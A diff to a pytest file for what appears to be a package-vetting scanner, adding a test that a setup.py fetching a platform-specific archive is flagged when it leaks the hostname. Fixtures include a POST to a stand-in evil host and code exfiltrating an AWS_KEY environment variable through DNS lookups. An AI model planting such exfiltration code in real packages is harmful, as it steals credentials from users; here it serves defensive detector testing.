@@ -5,7 +5,7 @@ from __future__ import annotations
 import pytest
 
 from stockade.model.findings import Severity
-from stockade.testing.archives import honest_zip
+from stockade.testing.archives import honest_tar, honest_zip
 from stockade.vetter.run import vet
 
 POST = 'requests.post("https://c.evil.invalid/c", data=str({}))'
@@ -152,3 +152,25 @@ def test_a_called_resolver_tunnels_where_the_zone_is_known(zone: str, found: boo
     assert stopped({"acmelib/__init__.py": source}) is found
     source = f"import os, socket\ndef look(zone):\n    socket.gethostbyname(os.environ['AWS_KEY'].encode().hex() + {zone})\n"
     assert stopped({"acmelib/__init__.py": f"{source}look(input())\n"}), "by itself it always does"
+
+
+PLATFORM_SETUP = """
+import os, platform, socket
+from urllib.request import urlretrieve
+from setuptools import setup
+
+system = {}
+urlretrieve("https://github.com/acme/acmelib-core/releases/download/v1/core-%s.tar.gz" % system, "core.tar.gz")
+setup(name="acmelib", version="1.0")
+"""
+
+
+@pytest.mark.parametrize(("fact", "grave"), [("platform.system()", False), ("socket.gethostname()", True)])
+def test_a_build_may_ask_for_the_file_of_its_platform(fact: str, grave: bool) -> None:
+    files = {
+        "acmelib-1.0/setup.py": PLATFORM_SETUP.format(fact),
+        "acmelib-1.0/PKG-INFO": "Name: acmelib\nVersion: 1.0\n",
+    }
+    data = honest_tar({path: text.encode() for path, text in files.items()})
+    found = [each.severity for each in vet(data, "acmelib-1.0.tar.gz").findings if each.rule == "STK-E119"]
+    assert [severity >= Severity.HIGH for severity in found] == [grave]
